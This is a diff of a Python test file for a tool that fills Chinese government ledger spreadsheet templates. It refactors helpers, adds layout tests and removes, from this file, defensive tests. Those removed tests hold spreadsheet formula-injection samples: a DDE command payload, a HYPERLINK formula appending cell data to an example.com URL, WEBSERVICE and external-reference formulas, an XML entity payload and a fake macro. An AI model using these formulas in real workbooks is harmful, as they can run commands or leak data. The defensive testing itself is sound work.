@@ -1,108 +1,19 @@
-"""照表填报: any heading is found, nothing of the template is overwritten, no text ever becomes a formula."""
+"""照表填报: any heading is found, nothing of the template is overwritten, the mapping is kept for next month."""
 
 from __future__ import annotations
 
 import datetime as dt
 import io
-import zipfile
 
 import openpyxl
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from openpyxl.styles import Border, Font, PatternFill, Side
 
 from renben.engines.ledgers import definitions, template_fill, templates
-from renben.engines.ledgers.cells import clean
-from renben.engines.ledgers.definitions import Ledger, LedgerError
-from renben.engines.ledgers.template_formulas import followed, is_plain
-from renben.engines.ledgers.template_sheets import open_template
+from renben.engines.ledgers.definitions import LedgerError
 from renben.engines.ledgers.template_words import load_words
-
-LINE = Side(style="thin")
-BOX = Border(left=LINE, right=LINE, top=LINE, bottom=LINE)
-NUMBER = "110113197503020015"
-FACTS = {
-    "office": "胜利街道社会保障事务所",
-    "as_of": "2026年11月23日",
-    "month": "2026年11月",
-    "by": "张晓明",
-    "made_on": "2026年11月23日",
-}
-LEDGER = Ledger(
-    slug="sample",
-    name="样本台账",
-    title=["样本台账"],
-    summary="测试用。",
-    procedures=["J-4.2.1"],
-    citation="测试",
-    source="x:y",
-    columns=[
-        {"key": "name", "title": "姓名", "total": "count"},
-        {"key": "id_number", "title": "证件号码", "type": "id"},
-        {"key": "phone", "title": "联系电话"},
-        {"key": "received_on", "title": "接收日期", "type": "date"},
-        {"key": "fen", "title": "金额（元）", "type": "fen", "total": "sum"},
-        {"key": "state", "title": "状态"},
-    ],
-)
-
-
-def rows(count: int) -> list[dict]:
-    return [
-        {
-            "name": f"李建国{n}",
-            "id_number": NUMBER,
-            "phone": "13800000000",
-            "received_on": dt.date(2026, 11, n % 28 + 1),
-            "fen": 10_050,
-            "state": "在管",
-        }
-        for n in range(count)
-    ]
-
-
-def saved(book: openpyxl.Workbook) -> bytes:
-    out = io.BytesIO()
-    book.save(out)
-    return out.getvalue()
-
-
-def monthly(body: int = 2) -> bytes:
-    """Title, unit and date above; a heading of two rows; a few lined rows; 合计 with a formula; signatures."""
-    book = openpyxl.Workbook()
-    sheet = book.active
-    sheet.title = "月报"
-    sheet["A1"] = "失业人员档案接收情况月报表"
-    sheet.merge_cells("A1:G1")
-    sheet["A2"], sheet["E2"] = "填报单位：          填表人：", "    年   月   日"
-    for area, text in (("A3:A4", "序号"), ("B3:D3", "人员信息"), ("E3:F3", "档案"), ("G3:G4", "备注事项")):
-        sheet.merge_cells(area)
-        sheet[area.split(":")[0]] = text
-    for place, text in zip("BCDEF", ("人员姓名", "公民身份号码", "手机", "接收时间", "金额(元)"), strict=True):
-        sheet[f"{place}4"] = text
-    for row in range(5, 5 + body):
-        sheet.row_dimensions[row].height = 27
-        for place in "ABCDEFG":
-            sheet[f"{place}{row}"].border = BOX
-            sheet[f"{place}{row}"].font = Font(name="仿宋", size=11)
-    sheet["B5"] = "例：张三"
-    end = 5 + body
-    sheet[f"A{end}"], sheet[f"F{end}"] = "合 计", f"=SUM(F5:F{end - 1})"
-    sheet[f"F{end}"].font = Font(bold=True)
-    sheet.merge_cells(f"A{end}:B{end}")
-    sheet.row_dimensions[end].height = 33
-    sheet[f"A{end + 1}"] = "单位负责人：            审核："
-    sheet.merge_cells(f"A{end + 1}:G{end + 1}")
-    return saved(book)
-
-
-def filled(data: bytes, lines: list[dict], mapping: templates.Mapping | None = None):
-    sheet = templates.sheet_named(templates.sheets_of(data), "")
-    mapping = mapping or templates.first_mapping(sheet, LEDGER)
-    out = io.BytesIO()
-    template_fill.fill(data, ledger=LEDGER, mapping=mapping, rows=lines, facts=FACTS, out=out)
-    return openpyxl.load_workbook(io.BytesIO(out.getvalue())), out.getvalue()
+from tests.engines.ledgers.template_samples import BOX, LEDGER, NUMBER, filled, monthly, rows, saved
 
 
 def test_a_heading_of_two_rows_is_joined_and_proposed():
@@ -264,121 +175,6 @@ def test_the_best_ledger_is_found_by_the_columns():
     assert templates.best_ledger(templates.sheets_of(saved(strange))[0], definitions.all_ledgers()) is None
 
 
-def test_formulas_of_the_template_go_down_and_foreign_ones_go_out():
-    book = openpyxl.load_workbook(io.BytesIO(monthly()))
-    sheet = book.active
-    sheet["G5"] = "=LEN(C5)"
-    sheet["H1"] = '=HYPERLINK("http://example.com/?"&C5,"看")'
-    sheet["H2"] = "=[1]表!A1"
-    sheet["H3"] = '=WEBSERVICE("http://example.com")'
-    sheet["D2"].hyperlink = "http://example.com"
-    sheet["D2"].value = "看"
-    other = book.create_sheet("汇总")
-    other["A1"] = "=月报!F7+SUM(月报!F5:F6)"
-    made, data = filled(saved(book), rows(3))
-    assert [made["月报"][f"G{row}"].value for row in (5, 7)] == ["=LEN(C5)", "=LEN(C7)"]
-    assert made["汇总"]["A1"].value == "=月报!F8+SUM(月报!F5:F7)"
-    assert all(made["月报"][f"H{row}"].data_type != "f" for row in (1, 2, 3))
-    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
-        text = b"".join(bundle.read(name) for name in bundle.namelist() if not name.startswith("docProps"))
-        assert not [name for name in bundle.namelist() if "external" in name.lower() or "vba" in name.lower()]
-    assert b"example.com" not in text
-
-
-def test_rules_of_the_sheet_grow_with_the_rows():
-    from openpyxl.formatting.rule import CellIsRule
-    from openpyxl.worksheet.datavalidation import DataValidation
-
-    book = openpyxl.load_workbook(io.BytesIO(monthly()))
-    sheet = book.active
-    check = DataValidation(type="list", formula1='"男,女"')
-    check.add("G5:G6")
-    sheet.add_data_validation(check)
-    sheet.conditional_formatting.add("F5:F6", CellIsRule(operator="lessThan", formula=["0"], fill=PatternFill("solid")))
-    sheet.print_area = "A1:G8"
-    made = filled(saved(book), rows(10))[0]["月报"]
-    assert str(made.data_validations.dataValidation[0].sqref) == "G5:G14"
-    assert [str(area.sqref) for area in made.conditional_formatting] == ["F5:F14"]
-    assert made.print_area.endswith("$A$1:$G$16")
-
-
-@pytest.mark.parametrize(
-    ("formula", "plain"),
-    [
-        ("=SUM(A1:B2)", True),
-        ('=IF(A1="","",MID(A1,7,4))', True),
-        ("=cmd|'/c calc'!A0", False),
-        ("=[1]Sheet1!A1", False),
-        ('=HYPERLINK("x")', False),
-        ('=IMPORTXML("a","b")', False),
-        ("=INDIRECT(A1)", False),
-        ('="http://x"', False),
-    ],
-)
-def test_which_formulas_of_a_template_may_stay(formula, plain):
-    assert is_plain(formula) is plain
-
-
-def test_a_formula_follows_its_rows():
-    place = {"sheet": "表", "own": True, "first": 5, "last": 9, "by": 10}
-    assert followed("=SUM(D5:D9)+D10+$D$4", **place) == "=SUM(D5:D19)+D20+$D$4"
-    assert followed("=SUM(D5:D7)", **place) == "=SUM(D5:D19)"
-    assert followed("=SUM('别的'!D5:D9)", **place) == "=SUM('别的'!D5:D9)"
-
-
-texts = st.one_of(
-    st.text(max_size=40),
-    st.tuples(
-        st.sampled_from(["=", "+", "-", "@", "\t=", "\n=", "＝", "#N/A", "'", "{=", "=cmd|"]), st.text(max_size=20)
-    ).map("".join),
-)
-
-
-@given(texts)
-@settings(max_examples=150, deadline=None)
-def test_no_text_ever_becomes_a_formula(text):
-    line = {"name": text, "id_number": text, "phone": text, "state": text, "received_on": text, "fen": None}
-    book = openpyxl.Workbook()
-    book.active.append(["单位：", None, None, None, None])
-    book.active.append(["姓名", "证件号码", "电话", "接收日期", "状态"])
-    data = saved(book)
-    sheet = templates.sheets_of(data)[0]
-    out = io.BytesIO()
-    mapping = templates.first_mapping(sheet, LEDGER)
-    template_fill.fill(data, ledger=LEDGER, mapping=mapping, rows=[line], facts=FACTS | {"office": text}, out=out)
-    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as bundle:
-        content = bundle.read("xl/worksheets/sheet1.xml")
-    assert b"<f>" not in content and b"<f " not in content
-    made = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
-    for address in ("A3", "B3", "C3", "D3", "E3", "A1"):
-        assert made[address].data_type != "f", address
-    wanted = clean(text)
-    assert (made["A3"].value or "").replace("\r", "\n") == wanted.replace("\r\n", "\n").replace("\r", "\n")
-    if wanted.startswith(("=", "+", "-", "@")):
-        assert made["A3"].quotePrefix and made["A3"].data_type == "s"
-
-
-def test_what_is_refused_says_what_to_do():
-    with pytest.raises(LedgerError, match="另存为 .xlsx"):
-        open_template(b"\xd0\xcf\x11\xe0" + b"\0" * 2000, "表.xls")
-    with pytest.raises(LedgerError, match="空的"):
-        open_template(b"", "表.xlsx")
-    with pytest.raises(LedgerError, match="已损坏"):
-        open_template(b"PK\x03\x04" + b"1" * 500, "表.xlsx")
-    with pytest.raises(LedgerError, match="没有找到表头"):
-        templates.sheets_of(saved(openpyxl.Workbook()))
-    macro = io.BytesIO(monthly())
-    with zipfile.ZipFile(macro, "a") as bundle:
-        bundle.writestr("xl/vbaProject.bin", b"x")
-    with pytest.raises(LedgerError, match="宏"):
-        open_template(macro.getvalue(), "表.xlsx")
-    bomb = io.BytesIO(monthly())
-    with zipfile.ZipFile(bomb, "a") as bundle:
-        bundle.writestr("xl/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')
-    with pytest.raises(LedgerError, match="不正常"):
-        open_template(bomb.getvalue(), "表.xlsx")
-
-
 def test_a_mapping_that_cannot_be_used_is_refused():
     sheet = templates.sheets_of(monthly())[0]
     good = templates.first_mapping(sheet, LEDGER)
@@ -401,3 +197,63 @@ def test_the_words_are_read():
     words = load_words()
     assert words.is_same("公民身份号码", "证件号码") and words.fact_of("填报单位") == "office"
     assert not words.is_same("姓名", "性别")
+
+
+def test_values_of_another_kind_than_the_column_are_text():
+    line = rows(1)[0] | {"fen": "=1+1", "received_on": "去年"}
+    sheet = filled(monthly(), [line])[0]["月报"]
+    assert (sheet["F5"].value, sheet["F5"].data_type) == ("=1+1", "s") and sheet["E5"].value == "去年"
+
+
+def test_a_drawn_table_keeps_its_columns_of_text_and_own_formats():
+    book = openpyxl.load_workbook(io.BytesIO(monthly()))
+    sheet = book.active
+    sheet["E5"].number_format, sheet["F5"].number_format = 'yyyy"年"m"月"d"日"', "@"
+    made = filled(saved(book), rows(2))[0]["月报"]
+    assert made["E6"].number_format == 'yyyy"年"m"月"d"日"' and made["E6"].value.date() == dt.date(2026, 11, 2)
+    assert (made["F6"].value, made["F6"].data_type) == ("100.50", "s")
+
+
+@given(
+    above=st.integers(0, 4),
+    groups=st.booleans(),
+    body=st.integers(0, 6),
+    total=st.booleans(),
+    notes=st.integers(0, 3),
+    count=st.integers(0, 12),
+    order=st.permutations(["序号", "姓名", "身份证号", "电话", "接收日期", "金额", "星座"]),
+)
+@settings(max_examples=80, deadline=None)
+def test_whatever_stands_around_the_rows_stays(above, groups, body, total, notes, count, order):
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row in range(1, above + 1):
+        sheet.cell(row, 1, f"说明文字第{row}段")
+        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=7)
+    head = above + 1
+    if groups:
+        sheet.cell(head, 2, "基本情况")
+        sheet.merge_cells(start_row=head, start_column=2, end_row=head, end_column=4)
+        head += 1
+    for place, text in enumerate(order, start=1):
+        sheet.cell(head, place, text)
+    for row in range(head + 1, head + 1 + body):
+        for place in range(1, 8):
+            sheet.cell(row, place).border = BOX
+    at = head + 1 + body
+    if total:
+        sheet.cell(at, 1, "合计")
+        at += 1
+    for row in range(at, at + notes):
+        sheet.cell(row, 1, f"填表说明{row - at}")
+        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=7)
+    made = filled(saved(book), rows(count))[0].active
+    name = order.index("姓名") + 1
+    assert [made.cell(head + n, name).value for n in range(1, count + 1)] == [f"李建国{n}" for n in range(count)]
+    assert [made.cell(head, place).value for place in range(1, 8)] == order
+    column = [made.cell(row, 1).value for row in range(1, made.max_row + 1)]
+    assert [text for text in column if str(text).startswith("说明文字")] == [
+        f"说明文字第{n}段" for n in range(1, above + 1)
+    ]
+    below = column[head + max(count, body) :] if total or notes else []
+    assert [text for text in below if text] == ["合计"] * total + [f"填表说明{n}" for n in range(notes)]
